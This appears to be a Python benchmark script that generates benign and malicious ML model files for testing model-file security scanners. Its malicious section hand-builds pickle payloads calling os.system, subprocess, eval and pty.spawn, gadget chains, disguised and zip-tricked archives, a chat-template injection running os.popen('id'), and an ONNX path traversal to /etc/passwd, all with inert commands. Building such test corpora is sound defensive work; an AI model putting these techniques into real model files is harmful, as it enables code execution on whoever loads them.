"""Build the model-scanner benchmark corpus under bench/out/corpus (benign and malicious artifacts).

Run with a Python that has torch, numpy, scikit-learn, pandas and joblib (the bench venv, never the
project's): ``bench/out/venv-torch/bin/python bench/scanners_corpus.py``. Malicious files are built
from classes whose ``__reduce__`` names a callable, or assembled by hand; nothing is ever unpickled.
Writes bench/out/corpus/manifest.json: one entry per file with its label and technique family.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import struct
import sys
import zipfile
from pathlib import Path

OUT = Path(__file__).parent / "out" / "corpus"
MANIFEST: list[dict[str, str]] = []


def put(rel: str, data: bytes, label: str, family: str) -> None:
    p = OUT / label / family / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    MANIFEST.append({"path": str(p.relative_to(OUT)), "label": label, "family": family})


class OsSystem:
    """Pickles as a call of ``os.system(cmd)``: pickling records the name only; nothing runs."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (self.cmd,))


def reduce_pickle(module: str, name: str, *args: object, proto: int = 4) -> bytes:
    # pickle the callable by reference: GLOBAL/STACK_GLOBAL module name, then REDUCE
    s = lambda x: b"\x8c" + bytes([len(x.encode())]) + x.encode()  # noqa: E731
    argb = b"".join(s(a) if isinstance(a, str) else pickle.dumps(a, protocol=4)[2:-1] for a in args)
    if proto >= 4:
        return b"\x80\x04" + s(module) + s(name) + b"\x93(" + argb + b"tR."
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    argt = b"".join(b"V" + a.encode("raw_unicode_escape") + b"\n" for a in args if isinstance(a, str))
    return head + f"c{module}\n{name}\n".encode() + b"(" + argt + b"tR."


def zip_of(members: dict[str, bytes], comp: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", comp) as z:
        for k, v in members.items():
            z.writestr(k, v)
    return buf.getvalue()


def malicious() -> None:
    cmd = "echo bastion-bench"
    for proto in (0, 2, 4):
        put(
            f"os_system_p{proto}.pkl",
            reduce_pickle("os", "system", cmd, proto=proto),
            "malicious",
            "direct_exec",
        )
        put(
            f"posix_system_p{proto}.pkl",
            reduce_pickle("posix", "system", cmd, proto=proto),
            "malicious",
            "direct_exec",
        )
    put("subprocess_popen.pkl", reduce_pickle("subprocess", "Popen", cmd), "malicious", "direct_exec")
    put("builtins_eval.pkl", reduce_pickle("builtins", "eval", "print(1)"), "malicious", "direct_exec")
    put(
        "builtins_exec_p0.pkl",
        reduce_pickle("__builtin__", "exec", "print(1)", proto=0),
        "malicious",
        "direct_exec",
    )
    for mod, name in [
        ("pip", "main"),
        ("ensurepip", "_run_pip"),
        ("timeit", "timeit"),
        ("pkgutil", "resolve_name"),
        ("cProfile", "run"),
        ("uuid", "_get_command_stdout"),
        ("_operator", "attrgetter"),
        ("runpy", "_run_code"),
        ("webbrowser", "open"),
        ("imaplib", "IMAP4_stream"),
        ("_osx_support", "_read_output"),
        ("code", "InteractiveInterpreter"),
        ("pty", "spawn"),
        ("asyncio.unix_events", "_UnixSubprocessTransport"),
        ("ctypes", "CDLL"),
        ("torch.utils.cpp_extension", "load_inline"),
        ("numpy.testing._private.utils", "runstring"),
    ]:
        put(f"{mod}.{name}.pkl", reduce_pickle(mod, name, "x"), "malicious", "nonstandard_module")
    for mod, name in [
        ("torch", "load"),
        ("numpy", "load"),
        ("pickle", "loads"),
        ("joblib", "load"),
        ("pandas", "read_pickle"),
        ("torch.serialization", "load"),
        ("marshal", "loads"),
    ]:
        put(f"nested_{mod}.{name}.pkl", reduce_pickle(mod, name, "payload"), "malicious", "nested_loader")
    s = lambda x: b"\x8c" + bytes([len(x)]) + x.encode()  # noqa: E731
    put(
        "getattr_chain.pkl",
        b"\x80\x04"
        + s("builtins")
        + s("getattr")
        + b"\x93"
        + s("builtins")
        + s("__import__")
        + b"\x93"
        + s("os")
        + b"\x85R"
        + s("system")
        + b"\x86R"
        + s("id")
        + b"\x85R.",
        "malicious",
        "gadget_chain",
    )
    put(
        "ufunc_reconstruct.pkl",
        b"\x80\x02cnumpy.core\n_ufunc_reconstruct\n" + s("os") + s("system") + b"\x86R" + s("id") + b"\x85R.",
        "malicious",
        "gadget_chain",
    )
    put(
        "methodcaller.pkl",
        reduce_pickle("operator", "methodcaller", "system", "id"),
        "malicious",
        "gadget_chain",
    )
    put(
        "memo_confusion.pkl",
        b"\x80\x04"
        + s("builtins")
        + b"q\x01"
        + s("len")
        + b"q\x02"
        + b"00"
        + s("os")
        + b"q\x01"
        + s("system")
        + b"q\x02"
        + b"00"
        + b"h\x01h\x02\x93("
        + s("id")
        + b"tR.",
        "malicious",
        "memo_dynamic",
    )
    put(
        "dynamic_stack_global.pkl",
        b"\x80\x04"
        + s("builtins")
        + s("str")
        + b"\x93("
        + s("os")
        + b"tR"
        + s("system")
        + b"\x93("
        + s("id")
        + b"tR.",
        "malicious",
        "memo_dynamic",
    )
    put("inst_opcode.pkl", b"(S'id'\nios\nsystem\n.", "malicious", "memo_dynamic")
    put("obj_opcode.pkl", b"(cos\nsystem\nS'id'\no.", "malicious", "memo_dynamic")
    evil = reduce_pickle("os", "system", cmd, proto=2)
    for name in ("model.safetensors", "weights.bin", "model.gguf", "model.onnx", "tokenizer.json"):
        put(f"disguised_{name}", evil, "malicious", "disguised")
    put(
        "torch_zip_evil.pt",
        zip_of({"archive/data.pkl": evil, "archive/version": b"3\n"}),
        "malicious",
        "disguised",
    )
    put("odd_member.pt", zip_of({"model/weights.bin": evil}), "malicious", "disguised")
    legacy_magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    put("legacy_torch_evil.pt", legacy_magic + pickle.dumps(1001, 2) + evil, "malicious", "disguised")
    base = bytearray(zip_of({"archive/data.pkl": evil}))
    flags = bytearray(base)
    cd = flags.index(b"PK\x01\x02")
    struct.pack_into("<H", flags, cd + 8, struct.unpack_from("<H", flags, cd + 8)[0] | 1)
    put("zip_flag_bits.pt", bytes(flags), "malicious", "zip_trick")
    crc = bytearray(base)
    struct.pack_into("<I", crc, crc.index(b"PK\x01\x02") + 16, 0xDEADBEEF)
    put("zip_crc.pt", bytes(crc), "malicious", "zip_trick")
    mism = bytearray(base)
    i = mism.index(b"archive/data.pkl")
    mism[i : i + 16] = b"archive/data.xyz"
    put("zip_name_mismatch.pt", bytes(mism), "malicious", "zip_trick")
    put("nested.zip", zip_of({"inner.zip": zip_of({"archive/data.pkl": evil})}), "malicious", "zip_trick")
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([OsSystem(cmd)], dtype=object), allow_pickle=True)
    put("object_array.npy", buf.getvalue(), "malicious", "numpy_joblib")
    import joblib

    buf = io.BytesIO()
    joblib.dump({"w": np.arange(1000.0), "hook": OsSystem(cmd)}, buf)
    put("model.joblib", buf.getvalue(), "malicious", "numpy_joblib")
    lam = {
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}},
                }
            ]
        },
    }
    put(
        "lambda.keras",
        zip_of({"config.json": json.dumps(lam).encode(), "metadata.json": b"{}"}),
        "malicious",
        "keras",
    )
    put(
        "lambda.h5",
        b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + json.dumps(lam).encode() + b"\0" * 100,
        "malicious",
        "keras",
    )
    mod = {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}}
    put("custom_module.keras", zip_of({"config.json": json.dumps(mod).encode()}), "malicious", "keras")
    put(
        "ssti.gguf",
        gguf({"tokenizer.chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
        "malicious",
        "template_graph",
    )
    put(
        "tokenizer_config.json",
        json.dumps({"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}).encode(),
        "malicious",
        "template_graph",
    )
    put("traversal.onnx", onnx(external="../../../../etc/passwd"), "malicious", "template_graph")
    put("saved_model.pb", saved_model(["Placeholder", "ReadFile", "PyFunc"]), "malicious", "template_graph")


def _f(num: int, payload: bytes | int) -> bytes:
    def v(n: int) -> bytes:
        out = bytearray()
        while True:
            b, n = n & 0x7F, n >> 7
            out.append(b | (0x80 if n else 0))
            if not n:
                return bytes(out)

    return (
        v(num << 3) + v(payload) if isinstance(payload, int) else v(num << 3 | 2) + v(len(payload)) + payload
    )


def onnx(external: str | None = None, nodes: int = 3) -> bytes:
    tensor = _f(8, b"w") + _f(2, 1) + _f(1, 4)
    if external:
        tensor += _f(13, _f(1, b"location") + _f(2, external.encode())) + _f(14, 1)
    else:
        tensor += _f(9, os.urandom(16))
    graph = b"".join(
        _f(1, _f(1, b"x") + _f(2, b"y") + _f(4, op)) for op in [b"MatMul", b"Relu", b"Add"][:nodes]
    )
    return _f(1, 8) + _f(2, b"pytorch") + _f(7, graph + _f(5, tensor)) + _f(8, _f(2, 17))


def saved_model(ops: list[str]) -> bytes:
    nodes = b"".join(_f(1, _f(1, f"n{i}".encode()) + _f(2, op.encode())) for i, op in enumerate(ops))
    return _f(1, 1) + _f(2, _f(2, nodes))


def gguf(kv: dict[str, str]) -> bytes:
    def st(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    body = b"".join(st(k) + struct.pack("<I", 8) + st(v) for k, v in kv.items())
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv)) + body


def safetensors(n: int = 4, size: int = 1024) -> bytes:
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    for i in range(n):
        header[f"layer{i}.weight"] = {
            "dtype": "F32",
            "shape": [size // 4],
            "data_offsets": [i * size, (i + 1) * size],
        }
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h)) + h + os.urandom(n * size)


def benign() -> None:
    import joblib
    import numpy as np
    import pandas as pd
    import torch
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    torch.manual_seed(0)
    net = torch.nn.Sequential(
        torch.nn.Linear(64, 128),
        torch.nn.ReLU(),
        torch.nn.LayerNorm(128),
        torch.nn.Dropout(0.1),
        torch.nn.Linear(128, 10),
    )
    conv = torch.nn.Sequential(
        torch.nn.Conv2d(3, 16, 3),
        torch.nn.BatchNorm2d(16),
        torch.nn.ReLU(),
        torch.nn.AdaptiveAvgPool2d(1),
        torch.nn.Flatten(),
        torch.nn.Linear(16, 10),
    )
    for name, model in (("mlp", net), ("cnn", conv)):
        buf = io.BytesIO()
        torch.save(model.state_dict(), buf)
        put(f"{name}_state_dict.pt", buf.getvalue(), "benign", "torch")
        buf = io.BytesIO()
        torch.save(model.state_dict(), buf, _use_new_zipfile_serialization=False)
        put(f"{name}_state_dict_legacy.pt", buf.getvalue(), "benign", "torch")
        buf = io.BytesIO()
        torch.save(model, buf)
        put(f"{name}_full_model.pt", buf.getvalue(), "benign", "torch")
        opt = torch.optim.AdamW(model.parameters())
        model(torch.randn(2, 64) if name == "mlp" else torch.randn(2, 3, 8, 8)).sum().backward()
        opt.step()
        buf = io.BytesIO()
        torch.save(
            {"model": model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3, "note": "os.system"}, buf
        )
        put(f"{name}_checkpoint.pth", buf.getvalue(), "benign", "torch")
    x = np.random.default_rng(0).normal(size=(200, 5))
    y = (x[:, 0] > 0).astype(int)
    pipe = Pipeline(
        [("log", FunctionTransformer(np.abs)), ("sc", StandardScaler()), ("lr", LogisticRegression())]
    ).fit(x, y)
    rf = RandomForestClassifier(n_estimators=5, random_state=0).fit(x, y)
    for name, est in (("pipeline", pipe), ("forest", rf)):
        put(f"{name}.pkl", pickle.dumps(est), "benign", "sklearn")
        buf = io.BytesIO()
        joblib.dump(est, buf)
        put(f"{name}.joblib", buf.getvalue(), "benign", "sklearn")
    df = pd.DataFrame(
        {
            "a": np.arange(100),
            "b": ["x"] * 100,
            "t": pd.date_range("2024-01-01", periods=100),
            "c": pd.Categorical(["u", "v"] * 50),
        }
    )
    for proto in (2, 4, 5):
        put(f"frame_p{proto}.pkl", pickle.dumps(df, protocol=proto), "benign", "pandas")
    arr = np.random.default_rng(1).normal(size=(64, 64)).astype(np.float32)
    buf = io.BytesIO()
    np.save(buf, arr)
    put("array.npy", buf.getvalue(), "benign", "numpy")
    buf = io.BytesIO()
    np.savez_compressed(buf, a=arr, b=np.arange(10))
    put("arrays.npz", buf.getvalue(), "benign", "numpy")
    put("array_p2.pkl", pickle.dumps(arr, protocol=2), "benign", "numpy")
    data = {
        "commands": ["os.system", "subprocess.Popen", "eval(", "__import__('os')"],
        "n": 3,
        "vocab": {f"tok{i}": i for i in range(500)},
    }
    for proto in (0, 2, 4, 5):
        put(f"strings_p{proto}.pkl", pickle.dumps(data, protocol=proto), "benign", "data_pickle")
    put("model.safetensors", safetensors(), "benign", "tensor_formats")
    put("big.safetensors", safetensors(8, 1 << 16), "benign", "tensor_formats")
    llama = (
        "{% for message in messages %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + "
        "' [/INST]' }}{% else %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}"
    )
    put(
        "model.gguf",
        gguf({"general.architecture": "llama", "tokenizer.chat_template": llama}),
        "benign",
        "tensor_formats",
    )
    put(
        "tokenizer_config.json",
        json.dumps({"chat_template": llama, "eos_token": "</s>"}).encode(),
        "benign",
        "tensor_formats",
    )
    put("model.onnx", onnx(), "benign", "graph_formats")
    put("external.onnx", onnx(external="weights/model.onnx.data"), "benign", "graph_formats")
    put(
        "saved_model.pb",
        saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2", "Identity"]),
        "benign",
        "graph_formats",
    )
    dense = {
        "class_name": "Sequential",
        "module": "keras",
        "config": {
            "layers": [
                {
                    "class_name": "Dense",
                    "module": "keras.layers",
                    "config": {"units": 10},
                    "registered_name": None,
                }
            ]
        },
    }
    put(
        "dense.keras",
        zip_of(
            {
                "config.json": json.dumps(dense).encode(),
                "metadata.json": b"{}",
                "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 256,
            }
        ),
        "benign",
        "keras",
    )
    put(
        "dense.h5",
        b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + json.dumps(dense).encode() + b"\0" * 100,
        "benign",
        "keras",
    )


def main() -> int:
    if OUT.exists():
        shutil.rmtree(OUT)
    malicious()
    benign()
    (OUT / "manifest.json").write_text(json.dumps(MANIFEST, indent=1))
    print(f"{len(MANIFEST)} files under {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
